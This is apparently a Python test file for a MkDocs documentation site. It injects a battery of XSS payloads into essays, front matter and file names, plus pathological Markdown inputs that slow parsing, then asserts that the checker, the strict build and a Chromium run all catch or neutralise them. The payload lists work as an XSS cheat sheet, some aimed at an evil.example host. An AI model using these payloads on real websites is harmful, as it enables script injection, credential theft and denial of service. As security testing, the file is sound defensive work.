"""The payload battery: hostile essays through every gate (the check, a strict build, the built site in Chromium).

Each payload is its own essay (or file name, or folder name) in a copy of the project's docs. All of them
are built in one strict build and checked in one run of scripts/check.py; the browser part opens every page
of that one site in one Chromium session. Each payload's script names itself (``PWN17``), so anything that
runs, or reaches a page in a form that could run, says which payload it was.

Targets (issue 12): 0 payloads execute; 0 reach a page, the search index or errors.json in an executable
form (scanned with the standard library's HTML parser, not the site's own tokenizer); each is reported by
the check at its file and line, and each fails the strict build naming its file.
"""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import subprocess
import sys
import types
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

import pytest

from conftest import ROOT
from dev.devtools import build_site, serve

JS = "alert('{P}')"  # what every payload runs; {P} becomes its name, PWN<n>

#: Payloads in an essay's body: (Markdown, line of the payload the check must name, counted from its first line).
BODY: list[tuple[str, int]] = [
    ("<script>alert('{P}')</script>", 0),
    ("<SCRIPT SRC=//evil.example/{P}.js></SCRIPT>", 0),
    ("<img src=x onerror=alert('{P}')>", 0),
    ("<IMG SRC=x OnError=alert('{P}')>", 0),
    ("<img src=\"x\"onerror=alert('{P}')>", 0),
    ("<svg/onload=alert('{P}')>", 0),
    ("<img alt=\">\" src=x onerror=alert('{P}')>", 0),
    ("<div>\n<img alt=\">\" src=x onerror=alert('{P}')>", 1),
    ("<scr<iframe>ipt>alert('{P}')</script>", 0),
    ("<a title=\"<\" href=\"#x\" onclick=\"alert('{P}')\">x</a>", 0),
    ("<base href=\"https://evil.example/{P}/\">", 0),
    ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/{P}\">", 0),
    ("<style>body {{ display: none }} /* {P} */</style>", 0),
    ("<iframe src=\"javascript:alert('{P}')\"></iframe>", 0),
    ("<iframe srcdoc=\"<script>alert('{P}')</script>\"></iframe>", 0),
    ("<object data=\"javascript:alert('{P}')\"></object>", 0),
    ("<embed src=\"javascript:alert('{P}')\">", 0),
    ("<a href=\"javascript:alert('{P}')\">x</a>", 0),
    ("<a href=\"&#x6A;avascript:alert('{P}')\">x</a>", 0),
    ("<a href=\"&#106;avascript:alert('{P}')\">x</a>", 0),
    ("<a href=\"&#0000106;avascript:alert('{P}')\">x</a>", 0),
    ("<a href=\"&#x0006A;avascript:alert('{P}')\">x</a>", 0),
    ("<a href=\"java&#9;script:alert('{P}')\">x</a>", 0),
    ("<a href=\"java&#x0A;script:alert('{P}')\">x</a>", 0),
    ("<a href=\"java&#10;script:alert('{P}')\">x</a>", 0),
    ("<a href=\"java&Tab;script:alert('{P}')\">x</a>", 0),
    ("<a href=\"javas&NewLine;cript:alert('{P}')\">x</a>", 0),
    ("<a href=\"javascript&colon;alert('{P}')\">x</a>", 0),
    ("<a href=\"javascript&#58;alert('{P}')\">x</a>", 0),
    ("<a href=\"&#x01;javascript:alert('{P}')\">x</a>", 0),
    ("<a href=\"\x01javascript:alert('{P}')\">x</a>", 0),
    ("<a href=\"&#x09;javascript:alert('{P}')\">x</a>", 0),
    ("<a href=\"java\nscript:alert('{P}')\">x</a>", 0),
    ("<a href=\" javascript:alert('{P}')\">x</a>", 0),
    ("<a href=\"JaVaScRiPt:alert('{P}')\">x</a>", 0),
    ("<a href=\"&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert('{P}')\">x</a>", 0),
    ("<a href=\"vbscript:msgbox('{P}')\">x</a>", 0),
    ("<a href=\"data:text/html,<script>alert('{P}')</script>\">x</a>", 0),
    ("<form action=\"&#106;avascript:alert('{P}')\"><input type=\"submit\" value=\"go\"></form>", 0),
    ("<form action=\"javascript:alert('{P}')\"><button>go</button></form>", 0),
    ("<form><button formaction=\"javascript:alert('{P}')\">go</button></form>", 0),
    ("<form action=\"https://evil.example/{P}\" method=\"post\"><input name=\"password\"></form>", 0),
    ("<svg><a><animate attributeName=\"href\" values=\"javascript:alert('{P}')\" /><text x=\"20\" y=\"20\">click</text></a></svg>", 0),
    ("<svg><a><set attributeName=\"href\" to=\"javascript:alert('{P}')\" /><text x=\"20\" y=\"20\">click</text></a></svg>", 0),
    ("<svg><a xlink:href=\"javascript:alert('{P}')\"><text x=\"20\" y=\"20\">click</text></a></svg>", 0),
    ("<svg><script>alert('{P}')</script></svg>", 0),
    ("<svg><animate onbegin=\"alert('{P}')\" attributeName=\"x\" dur=\"1s\" /></svg>", 0),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert('{P}')>", 0),
    ("<svg><style><img src=x onerror=alert('{P}')></style></svg>", 0),
    ("<svg><foreignObject><iframe srcdoc=\"<script>alert('{P}')</script>\"></iframe></foreignObject></svg>", 0),
    ("<details open ontoggle=\"alert('{P}')\"><summary>x</summary></details>", 0),
    ("<input autofocus onfocus=\"alert('{P}')\">", 0),
    ("<body onload=\"alert('{P}')\">", 0),
    ("<video><source onerror=\"alert('{P}')\"></video>", 0),
    ("<audio src=\"x\" onerror=\"alert('{P}')\"></audio>", 0),
    ("<marquee onstart=\"alert('{P}')\">x</marquee>", 0),
    ("<link rel=\"stylesheet\" href=\"https://evil.example/{P}.css\">", 0),
    ("<noscript><p title=\"</noscript><img src=x onerror=alert('{P}')>\"></p></noscript>", 0),
    ("<template><script>alert('{P}')</script></template>", 0),
    ("<div style=\"background: url(javascript:alert('{P}'))\">x</div>", 0),
    ("<div id=\"__config\">{{\"base\": \"https://evil.example/{P}/\"}}</div>", 0),
    ("<a href=\"#top\" onmouseover=\"alert('{P}')\">hover</a>", 0),
    ("<!--><img src=x onerror=alert('{P}')>-->", 0),
    ("<textarea><img src=x onerror=alert('{P}')></textarea>", 0),
    ("<img src=\"x\"\nonerror=\"alert('{P}')\">", 0),
    ("<object data=\"data:text/html,<script>alert('{P}')</script>\"></object>", 0),
    ("<isindex type=\"image\" src=\"1\" onerror=\"alert('{P}')\">", 0),
    ("<img src=\"x:alert(alt)\" onerror=\"eval(src)\" alt=\"{P}\">", 0),
    ("<frameset onload=\"alert('{P}')\"></frameset>", 0),
    ("<img srcset=\"x\" onerror=\"alert('{P}')\">", 0),
    ("<a href=\"https://example.org/\" target=\"_blank\" onclick=\"alert('{P}')\">x</a>", 0),
    # parser differentials (mutation XSS): markup that means one thing to a sanitiser and another to a browser
    ("<svg><p><style><img src=x onerror=alert('{P}')></style></p></svg>", 0),
    ("<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert('{P}') src=1>\">", 0),
    ("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('{P}')>", 0),
    ("<svg></p><style><a id=\"</style><img src=1 onerror=alert('{P}')>\">", 0),
    ("<noembed><img title=\"</noembed><img src=x onerror=alert('{P}')>\"></noembed>", 0),
    # Markdown's own links, attribute lists and blocks
    ("[x](javascript:alert('{P}'))", 0),
    ("[x](JaVaScRiPt:alert('{P}'))", 0),
    ("[x](java&#9;script:alert('{P}'))", 0),
    ("[x](<javascript:alert('{P}')>)", 0),
    ("![x](javascript:alert('{P}'))", 0),
    ("[x][r]\n\n[r]: javascript:alert('{P}')", 2),
    ("<javascript:alert('{P}')>", 0),
    ("[x](data:text/html,<script>alert('{P}')</script>)", 0),
    ("[x](vbscript:msgbox('{P}'))", 0),
    ("[x](https://example.org){{ onclick=\"alert('{P}')\" }}", 0),
    ("[x](https://example.org){{ href=\"javascript:alert('{P}')\" }}", 0),
    ("段落\n{{: onclick=\"alert('{P}')\" }}", 1),
    ("## 标题 {{ onclick=\"alert('{P}')\" }}", 0),
    ("## <img src=x onerror=alert('{P}')>", 0),
    ("脚注[^1]\n\n[^1]: <img src=x onerror=alert('{P}')>", 2),
    ("!!! note \"<img src=x onerror=alert('{P}')>\"\n    x", 0),
    ("=== \"<img src=x onerror=alert('{P}')>\"\n    x", 0),
    ("*[HTML]: <img src=x onerror=alert('{P}')>\n\nHTML", 0),
    ("| a |\n|---|\n| <img src=x onerror=alert('{P}')> |", 2),
    ("<div markdown>\n<img src=x onerror=alert('{P}')>\n</div>", 1),
    ("??? note \"x\"\n    <script>alert('{P}')</script>", 1),
    ("- `KeyError: 'e'`\n\n  - 解决方案：\n    <img src=x onerror=alert('{P}')>", 3),
    ("- `KeyError: 'f'`\n\n  - 解决方案：\n    <div>\n    <img alt=\">\" src=x onerror=alert('{P}')>", 4),
    # an entry message that held a double backtick closed the card's code span
    ("- ``` a `` <img alt=\">\" src=x onerror=alert('{P}')> ```\n\n  - 解决方案：\n    x", 0),
    ("- `<script>alert('{P}')</script>`\n\n  - 解决方案：\n    x", 0),
    ("## `` b`<svg onload=alert('{P}')>` ``\n\n### 解决方案\n\nx", 0),
    # a code span splits the tag for Python-Markdown's tag stripping, which gave the sidebar's table of contents the whole tag
    ("## a <img src=x onerror=alert(`'{P}'`)>", 0),
    # SVG paint is CSS: url() made the reader's browser fetch from elsewhere (the allowlist keeps icons' colours)
    ("<svg width=\"10\" height=\"10\"><rect width=\"10\" height=\"10\" fill=\"url(https://evil.example/{P}.svg#a)\"/></svg>", 0),
    ("<svg width=\"10\" height=\"10\"><rect width=\"10\" height=\"10\" stroke=\"\\75rl(https://evil.example/{P}.svg#a)\"/></svg>", 0),
    # an attribute list's id shorthand, which the check did not read (the sanitiser drops the id)
    ("## 标题 {{#__config}}\n\n{{\"base\": \"https://evil.example/{P}/\"}}", 0),
]

#: In a front-matter payload, what follows is written in base64 (for YAML's !!binary).
BASE64_OF = "base64:"
#: Payloads in the front matter: (key, YAML value). The check must name the key's line.
FRONT: list[tuple[str, str]] = [
    ("title", json.dumps("<img src=x onerror=alert('{P}')>")),
    ("title", json.dumps("</title><script>alert('{P}')</script>")),
    ("description", json.dumps("\"><script>alert('{P}')</script>")),
    ("subtitle", json.dumps("<img src=x onerror=alert('{P}')>")),
    ("status", json.dumps("x\" onmouseover=\"alert('{P}')")),
    ("tags", "[" + json.dumps("<img src=x onerror=alert('{P}')>") + "]"),
    ("categories", "[" + json.dumps("<img src=x onerror=alert('{P}')>") + "]"),
    ("author", json.dumps("\"><img src=x onerror=alert('{P}')>")),
    ("authors", "[{name: " + json.dumps("<img src=x onerror=alert('{P}')>") + ", link: " + json.dumps("javascript:alert('{P}')") + "}]"),
    # YAML's other types: bytes, a set, an ordered map's pairs, which the theme prints with str(), strings unescaped
    ("description", "!!binary " + BASE64_OF + "\"><img src=x onerror=alert(`{P}`)>"),
    ("subtitle", "!!set {" + json.dumps("\"><img src=x onerror=alert(`{P}`)>") + ": null}"),
    ("description", "!!omap [{a: " + json.dumps("<img src=x onerror=alert(`{P}`)>") + "}]"),
    # Material's redirect.html prints the page's location into a script and a refresh (a second key after the value)
    ("template", "redirect.html\nlocation: " + json.dumps("javascript:alert(`{P}`)")),
    ("template", "redirect.html\nlocation: " + json.dumps("https://evil.example/{P}")),
]

#: Payloads in file and folder names: (path under docs/, with a title in its front matter or not).
NAMES: list[tuple[str, bool]] = [
    ("payloads/01.<img src=x onerror=alert('{P}')>.md", False),
    ("payloads/<svg onload=alert('{P}')>.md", True),
    ("05.<img src=x onerror=alert('{P}')>/01.a.md", True),
    ("payloads/a\"onmouseover=\"alert('{P}')\".md", True),  # MkDocs joins the edit link from the path as is
]

FIRST_BODY_LINE = 8  # the body payload's first line in its essay (see essay())


@dataclass(frozen=True)
class Payload:
    name: str  # PWN<n>
    path: str  # under docs/
    line: int  # what the check must report
    text: str


def essay(name: str, body: str = "", front: str = "", title: bool = True) -> str:
    title_line = f"title: 载荷 {name}\n" if title else ""
    return f"---\n{title_line}{front}---\n# 载荷 {name}\n\n这一篇测试载荷 {name}。\n\n{body}\n"


def payloads() -> list[Payload]:
    found = []
    for n, (body, offset) in enumerate(BODY):
        name = f"PWN{len(found)}"
        found.append(Payload(name, f"payloads/b{n:03d}.md", FIRST_BODY_LINE + offset, essay(name, body.replace("{P}", name).replace("{{", "{").replace("}}", "}"))))
    for n, (key, value) in enumerate(FRONT):
        name = f"PWN{len(found)}"
        value = value.replace("{P}", name)
        if BASE64_OF in value:
            plain, text = value.split(BASE64_OF, 1)
            value = plain + base64.b64encode(text.encode("utf-8")).decode("ascii")
        # An entry, so that the hostile title, tags and so on travel into errors.json and the lookup.
        entry = f"- `KeyError: '{name}'`\n\n  - 解决方案：\n    检查键名。"
        if key == "title":
            text = f"---\ntitle: {value}\n---\n# 载荷\n\n{entry}\n"
            found.append(Payload(name, f"payloads/f{n:03d}.md", 2, text))
        else:
            found.append(Payload(name, f"payloads/f{n:03d}.md", 3, essay(name, entry, front=f"{key}: {value}\n")))
    # No front matter: MkDocs would title the page by its first heading, markup and all.
    name = f"PWN{len(found)}"
    found.append(Payload(name, "payloads/untitled.md", 1, f"# <img src=x onerror=alert('{name}')>\n\n正文。\n"))
    for path, titled in NAMES:
        name = f"PWN{len(found)}"
        found.append(Payload(name, path.replace("{P}", name), 1, essay(name, "正文。", title=titled)))
    return found


PAYLOADS = payloads()


def test_the_battery_has_every_class_of_the_audit():
    assert len(PAYLOADS) >= 93
    assert len({p.path for p in PAYLOADS}) == len(PAYLOADS)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """A copy of the project's docs with every payload added; returns the copy's parent (docs/ inside)."""
    root = tmp_path_factory.mktemp("payloads")
    docs_with_payloads(ROOT / "docs", root / "docs")
    return root


def docs_with_payloads(docs: Path, copy: Path) -> None:
    """A copy of ``docs`` with every payload essay added (dev/battery.py builds one of another tree)."""
    shutil.copytree(docs, copy)
    for payload in PAYLOADS:
        target = copy / payload.path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(payload.text, encoding="utf-8")


@pytest.fixture(scope="module")
def checked(hostile) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, str(ROOT / "scripts" / "check.py"), "docs", "--tags", str(ROOT / "tags.yml")],
        capture_output=True, text=True, cwd=hostile, env={**os.environ, "GITHUB_ACTIONS": ""}, timeout=600,
    )


@pytest.fixture(scope="module")
def built(hostile) -> tuple[subprocess.CompletedProcess, Path]:
    """One strict build of all payloads (MkDocs writes the whole site, then fails on the warnings)."""
    site = hostile / "site"
    return build_site(site, docs_dir=hostile / "docs"), site


_REPORTED = re.compile(r"^(?P<path>.+?):(?P<line>\d+): ")


def test_the_check_reports_every_payload_at_its_file_and_line(checked):
    assert checked.returncode == 1
    reported = {(m.group("path"), int(m.group("line"))) for m in map(_REPORTED.match, checked.stdout.splitlines()) if m}
    missed = [(p.name, p.path, p.line) for p in PAYLOADS if (f"docs/{p.path}", p.line) not in reported]
    assert missed == [], "\n".join(line for line in checked.stdout.splitlines() if "payloads/" in line or "05." in line)
    assert "Traceback" not in checked.stderr + checked.stdout


def test_the_strict_build_fails_naming_every_payload_file(built):
    result, _ = built
    assert result.returncode != 0
    assert "Traceback" not in result.stderr
    warnings = [line for line in result.stderr.splitlines() if line.startswith("WARNING")]
    missed = [p.name for p in PAYLOADS if not any(p.path in line for line in warnings)]
    assert missed == []


# -- what reached the pages --------------------------------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "values", "to", "from", "background", "poster", "srcset", "content"}
#: Elements that act by themselves when a payload names them (a button acts only through a handler or formaction, which the attribute rules catch).
ACTIVE_ELEMENTS = {"script", "style", "iframe", "frame", "frameset", "object", "embed", "base", "meta", "link", "form", "animate", "set", "animatemotion", "animatetransform", "foreignobject", "use", "template", "noscript", "math", "marquee", "isindex", "audio", "video", "source"}
_CONTROL = re.compile(r"[\x00-\x20\x7f]+")


class _Scanner(HTMLParser):
    """Executable forms in a built page, by the standard library's parser (independent of the site's code)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._active: list[str] = []

    def handle_starttag(self, tag, attrs):
        text = " ".join(f"{k}={v}" for k, v in attrs)
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}={value[:60]}>")
            scheme = re.match(r"([a-z][a-z0-9+.\-]*):", _CONTROL.sub("", value).lower())
            if name in URL_ATTRIBUTES and scheme and scheme.group(1) not in ("http", "https", "mailto") and not (tag == "meta" and name == "content"):
                if value != "javascript:void(0)":  # Material's own search-share button
                    self.found.append(f"<{tag} {name}={value[:60]}>")
            if name in ("id", "name") and value in ("__config", "__pwned") and tag != "script":
                self.found.append(f"<{tag} {name}={value}>")
        rel = dict(attrs).get("rel") or ""
        if tag == "link" and rel in ("canonical", "prev", "next", "alternate"):
            pass  # the theme's links between pages (a hostile name in them is percent-encoded)
        elif tag == "meta":
            pass  # a meta's content is a string (description, author): only a refresh acts, above
        elif tag in ACTIVE_ELEMENTS and "PWN" in text:
            self.found.append(f"<{tag} {text[:60]}>")
        refresh = dict(attrs).get("content") or ""
        if tag == "meta" and "http-equiv" in dict(attrs) and ("PWN" in refresh or re.search(r"url\s*=\s*['\"]?\s*[a-z][a-z0-9+.\-]*:", refresh, re.I)):
            self.found.append(f"<meta {text[:60]}>")  # a refresh to another site (the redirects' own pages point inside)
        if tag in ACTIVE_ELEMENTS:
            self._active.append(tag)

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if self._active and self._active[-1] == tag:
            self._active.pop()

    def handle_data(self, data):
        if self._active and self._active[-1] in ("script", "style") and "PWN" in data:
            self.found.append(f"<{self._active[-1]}>{data[:60]}")


def executable_forms(html: str) -> list[str]:
    scanner = _Scanner()
    scanner.feed(html)
    scanner.close()
    return scanner.found


def test_the_scanner_sees_what_it_looks_for():
    assert executable_forms("<img src=x onerror=alert('PWN1')><a href='java&#9;script:x'>")  # not a vacuous scan
    assert executable_forms("<script>alert('PWN2')</script><style>/*PWN3*/</style>")
    assert executable_forms('<p>alert(&#39;PWN4&#39;)</p><code>&lt;script&gt;</code><a href="../x/">x</a>') == []


def test_no_payload_reaches_any_page_in_an_executable_form(built):
    _, site = built
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > len(PAYLOADS)
    found = {str(page.relative_to(site)): executable_forms(page.read_text(encoding="utf-8")) for page in pages}
    assert {page: forms for page, forms in found.items() if forms} == {}


def test_no_payload_reaches_the_search_index_or_errors_json_in_an_executable_form(built):
    _, site = built
    index = json.loads((site / "search" / "search_index.json").read_text(encoding="utf-8"))
    # Material's search shows titles and text as HTML: they must hold nothing that runs.
    found = [forms for doc in index["docs"] for forms in [executable_forms(doc["title"]) + executable_forms(doc["text"])] if forms]
    assert found == []
    records = json.loads((site / "errors.json").read_text(encoding="utf-8"))["entries"]
    assert any("PWN" in record["message"] for record in records)  # the hostile messages are there, as data


# -- the browser -------------------------------------------------------------------------------------

#: Every payload calls alert(): the canary counts the calls (in frames too), the dialog handler sees the dialogs.
CANARY = """window.__pwned = window.__pwned || [];
const realAlert = window.alert;
window.alert = function (message) { window.__pwned.push(String(message)); return realAlert.call(window, message); };"""
#: Clicks every link and submits every form of the page's content; a link or form whose URL is http(s) or
#: mailto is stopped before it navigates (those cannot run script here); anything else runs as it would.
CLICK_EVERYTHING = """() => {
  const safe = (value) => { try { return ["http:", "https:", "mailto:"].includes(new URL(value, location.href).protocol); } catch (e) { return true; } };
  const target = (el) => el.getAttribute("href") || el.getAttributeNS("http://www.w3.org/1999/xlink", "href") || (el.href && el.href.animVal) || "";
  let clicked = 0;
  for (const link of document.querySelectorAll("article a, article [href]")) {
    link.addEventListener("click", (event) => { if (safe(target(link))) event.preventDefault(); });
    link.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true}));
    link.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
    clicked++;
  }
  for (const form of document.querySelectorAll("article form:not(#errata-lookup)")) {
    form.addEventListener("submit", (event) => { if (safe(form.action)) event.preventDefault(); });
    try { form.requestSubmit(); } catch (e) {}
    clicked++;
  }
  for (const element of document.querySelectorAll("article details, article input")) { element.focus && element.focus(); }
  return clicked;
}"""


def _site_urls(site: Path, base: str) -> list[str]:
    urls = []
    for page in sorted(site.rglob("index.html")):
        folder = page.relative_to(site).parent.as_posix()
        urls.append(base if folder == "." else base + quote(folder) + "/")
    return urls


@pytest.mark.browser
def visit(page, url: str, base: str, **goto) -> list[str]:
    """Load a page, click every link and submit every form: what ran there (the canary's names), or where it went."""
    page.goto(url, wait_until="load", **goto)
    page.wait_for_timeout(100)  # SVG animations begin, autofocus fires
    page.evaluate(CLICK_EVERYTHING)
    page.wait_for_timeout(50)
    if not page.url.startswith(base):
        return [f"navigated to {page.url}"]
    return [f"canary {name}" for name in page.evaluate("window.__pwned") or []]


def test_no_payload_runs_in_chromium(built, browser):
    _, site = built
    ran: list[str] = []
    outside: list[str] = []
    with serve(site) as base:
        context = browser.new_context()
        context.add_init_script(CANARY)
        # Nothing may load from elsewhere: a <base>, a refresh or a stylesheet a payload names is a failure.
        context.route("**/*", lambda route: (outside.append(route.request.url), route.abort()) if not route.request.url.startswith(base) else route.continue_())
        page = context.new_page()
        page.on("dialog", lambda dialog: (ran.append(f"dialog {dialog.message} on {page.url}"), dialog.dismiss()))
        urls = _site_urls(site, base)
        assert len(urls) > len(PAYLOADS)
        for url in urls:
            ran += [f"{event} on {url}" for event in visit(page, url, base)]
        # The search box and the lookup page show entries: their messages are hostile here.
        page.goto(base, wait_until="load")
        page.locator(".md-search__input").fill("PWN")
        page.wait_for_timeout(1500)
        page.goto(base + "lookup/", wait_until="load")
        records = json.loads((site / "errors.json").read_text(encoding="utf-8"))["entries"]
        for record in records:
            if "PWN" in record["message"]:
                page.fill("#errata-lookup textarea", record["message"])
                page.click("#errata-lookup button")
                page.wait_for_timeout(100)
                assert page.locator("#errata-lookup-results").inner_text()  # the hostile entry was found and shown
        page.goto(base + "errors/", wait_until="load")
        page.fill(".errata-filter-input", "PWN")
        page.wait_for_timeout(300)
        canary = page.evaluate("window.__pwned")
        context.close()
    assert ran == [] and not canary
    assert outside == []  # the site loads nothing from elsewhere (no web fonts, no API calls): a payload's request would show


# -- pathological essays: linear, or refused with a message ---------------------------------------------

PATHOLOGICAL = {
    "backticks": "- " + "`" * 10_000,
    "heading-backticks": "## " + "`" * 10_000 + " {",
    "open-brackets": "[" * 50_000,
    "image-opens": "![x](" * 20_000,
    "link-opens": "](" * 50_000,
    "braces": "{" * 50_000 + "#a" * 20_000,
    "tag-opens": "<a" * 50_000,
    "quoted-tags": '<a b="' * 30_000,
    "comments": "<!--" * 50_000,
    "end-tags": "</" * 50_000,
    "ids": " id=a" * 50_000,
    "heading-spaces": "# a" + " " * 50_000 + "b",
    "nested-list": "\n".join("    " * i + "- x" for i in range(1200)),
    "nested-quote": "> " * 1200 + "x",
    "nested-markers": "- " * 1200 + "x",
    "divs": "<div>" * 20_000,
    "attribute-list": "{" + "a=" * 50_000 + "}",
    "entities": "&#" * 50_000,
    "long-link": "[x](" + "&" * 50_000 + ")",
    # Closed inline markup: each match rebuilds the paragraph's text (quadratic, 9.6 s for the escapes).
    "inline-code": "`a" * 160_000,
    "escapes": "\\`a" * 80_000,
    "closed-links": "[a](b) " * 80_000,
    "hard-breaks": "a  \n" * 120_000,
    "quoted-code": "> `a` `b`\n" * 30_000,
    # Definitions whose cost grows faster than their number (each in a paragraph of its own).
    "abbreviations": "".join(f"*[A{i}]: x\n\n" for i in range(16_000)) + "A1 A2 A3 b\n\n" * 16_000,
    "footnotes": "".join(f"a[^{i}]\n\n" for i in range(16_000)) + "".join(f"[^{i}]: x\n\n" for i in range(16_000)),
    # A fence's options, read by pymdownx.superfences with a regular expression that backtracks
    # exponentially where the line does not end as it expects (a helper's find: 20 options 0.3 s, 40 hours).
    "fence-options": "``` " + 'x="a" ' * 40 + "\f\ncode\n```\n",
    "fence-options-in-a-quote": "> ~~~ " + 'x="a" ' * 40 + "!\n> code\n> ~~~\n",
    "fence-options-at-the-limit": "``` " + 'x="a" ' * 12 + "!\ncode\n```\n",
    # A red-team audit's: blocks Python-Markdown reads again for each line it takes off (quadratic: one to
    # two minutes to build 100 KB), definitions it reads by recursion, HTML blocks of Markdown nested by
    # recursion (a RecursionError), tags left open on line after line.
    "headings-in-a-row": "## a\n" * 20_000,
    "rules-in-a-row": "---\n" * 25_000,
    "definitions-in-a-row": "term\n: def\n" * 16_666,
    "setext-headings": "a\n=\n" * 12_000,
    "tabs-in-a-row": '=== "a"\n' * 12_000,
    "quoted-headings": "> ## a\n" * 12_000,
    "details-in-a-row": "??? note\n" * 12_000,
    "open-tags": "<a\n\n" * 25_000,
    "markdown-divs": "<div markdown>\n" * 400 + "x\n" + "</div>\n" * 400,
    "heading-of-angles": "# >" + "<" * 100_000 + "\n",
    "setext-heading-of-angles": ">" + "<" * 100_000 + "\n===\n",
    # Round twenty's: a tag's attributes each looked for among the ones before (35 s to check); attr_list's
    # search for an attribute list at the end of a table cell or a definition's term (36 s to build); headings
    # each in a block of its own, which Material's search plugin looks up in the whole table of contents (43 s).
    "many-attributes": "<p " + " ".join(f"a{i}" for i in range(20_000)) + ">x</p>\n",
    "braces-in-a-cell": "| a | b |\n|---|---|\n| x" + " {a" * 40_000 + " | y |\n",
    "braces-in-a-term": "x" + " {a" * 40_000 + "\n: def\n",
    "headings-in-blocks": "## a\n\n" * 20_000,
    # Round twenty-three's: elements left open across paragraphs, which html5ever and the theme's search indexer
    # read in time growing with the square of the depth (40,000 <div>: 108 s to build); formatting elements left
    # open, which the HTML parser opens again where text follows (Python-Markdown's line breaks between blocks
    # keep that to once); old pages' anchors left open.
    "divs-across-paragraphs": ("<div>" * 900 + "x\n\n") * 45,
    "spans-across-paragraphs": ("<span>" * 900 + "x\n\n") * 45,
    "formatting-reopened": "".join(f'<b title="c{i}">' for i in range(250)) + "x\n\n" + "y\n\n" * 4_000,
    "anchors-left-open": '<a name="x">a\n\n' * 2_000,
    # Round twenty-three's second audit: headings written as HTML in a Markdown block, which the table of contents holds
    # and the search plugin looks each up in (32,000: 67 s to build); sections whose closing tags the search indexer
    # looks up from the section's start (a fence then paragraphs, 220 KB: 42 s; inline tags then code spans); blocks
    # Python-Markdown takes off the front of a list and puts back (133,000 paragraphs, 400 KB: 20 s).
    "html-headings-in-a-markdown-block": "<div markdown>\n\n" + "<h2>x</h2>\n\n" * 16_000 + "</div>\n",
    "html-headings-with-ids": "".join(f"## m{i}\n\n" for i in range(900)) + "".join(f'<h6 id="r{i}">x</h6>\n\n' for i in range(16_000)),
    "fence-then-paragraphs": "## s\n\n```python\n" + "a = b\n" * 26_000 + "```\n\n" + "x\n\n" * 20_000,
    "inline-tags-then-code-spans": ("a<i>b</i>" * 200 + "\n\n") * 200 + ("`x` " * 500 + "\n\n") * 80,
    "paragraphs-under-headings": "".join(f"## s{i}\n\n" + "x\n\n" * 4_900 for i in range(27)),
    "blank-lines": "x\n" + "\n" * 800_000 + "y\n",
    # Short lines of code, spread under headings: each line's wrapper markup made a page 75 times the essay's size.
    "short-code-lines-under-headings": "".join(f"## s{i}\n\n```\n" + "a\n" * 1_500 + "```\n\n" for i in range(30)),
}


@pytest.fixture(scope="module")
def markdown_of_the_site():
    import markdown
    from mkdocs.config import load_config

    config = load_config(str(ROOT / "mkdocs.yml"))
    return lambda: markdown.Markdown(extensions=config["markdown_extensions"], extension_configs=config["mdx_configs"])


@pytest.mark.parametrize("name", sorted(PATHOLOGICAL))
def test_a_pathological_essay_is_handled_quickly_or_refused(name, tmp_path, markdown_of_the_site):
    """The check, then what the build does with the page (the hooks' refusal, Markdown, the sanitiser)."""
    import time

    from errata.checks import check_nesting
    from errata.contribution import check_files
    from errata.safety import sanitize_html
    from material.plugins.search.plugin import SearchIndex
    from mkdocs.structure.toc import get_toc

    body = PATHOLOGICAL[name]
    path = tmp_path / f"{name}.md"
    path.write_text(essay(name, body), encoding="utf-8")
    start = time.perf_counter()
    problems = check_files([path])
    checked = time.perf_counter() - start
    assert checked < 5, f"the check took {checked:.1f} s"  # generous: the audit measured 25 s to minutes
    refused = check_nesting(body, name)
    if refused:
        assert any(p.rule == "nesting" and p.line >= FIRST_BODY_LINE for p in problems)
        return
    start = time.perf_counter()
    markdown = markdown_of_the_site()
    page = sanitize_html(markdown.convert(body))
    indexed = types.SimpleNamespace(content=page, toc=get_toc(markdown.toc_tokens), url="p/", title=name, meta={"title": name})
    SearchIndex(lang="en", separator=" ", pipeline=[], fields={}).add_entry_from_context(indexed)  # as Material's search plugin does, with its table of contents
    assert time.perf_counter() - start < 5
    assert len(page) < 20 * len(body) + 100_000  # no page grows far past what was written


def test_elements_left_open_across_paragraphs_are_refused_at_the_line_that_opens_one_too_many():
    from errata.checks import MAX_OPEN_ELEMENTS, check_nesting

    body = "intro\n\n" + "<section>\n\n" * MAX_OPEN_ELEMENTS + "<div>x\n"
    assert [str(p) for p in check_nesting(body, "a.md", first_line=5)] == [
        f"a.md:{5 + 2 + 2 * MAX_OPEN_ELEMENTS}: {MAX_OPEN_ELEMENTS + 1} HTML elements left open at once (at most {MAX_OPEN_ELEMENTS}): close them, or put markup examples in a code block [nesting]"
    ]
    closed = "intro\n\n" + "<section>x</section>\n\n" * 1000
    assert check_nesting(closed, "a.md") == []


@pytest.mark.parametrize("tag", ['<div title="<">', "<div title='a<b'>", "<DIV\ttitle=\"x>y\">", '<div data-x="<i>">'])
def test_elements_whose_quoted_values_hold_angle_brackets_count_as_left_open(tag):
    """A red-team audit: ``<div title="<">`` is a div to the sanitiser's parser, but the count read a tag only where no
    ``<`` stood before its ``>``: 40,000 in raw HTML (600 KB, 500 a line) passed the check and took 118 s to build."""
    from errata.checks import MAX_OPEN_ELEMENTS, check_nesting

    body = "intro\n\n" + (tag * 100 + "\n\n") * 3
    assert [p.message for p in check_nesting(body, "a.md")] == [f"300 HTML elements left open at once (at most {MAX_OPEN_ELEMENTS}): close them, or put markup examples in a code block"]


@pytest.mark.parametrize(
    "body",
    [
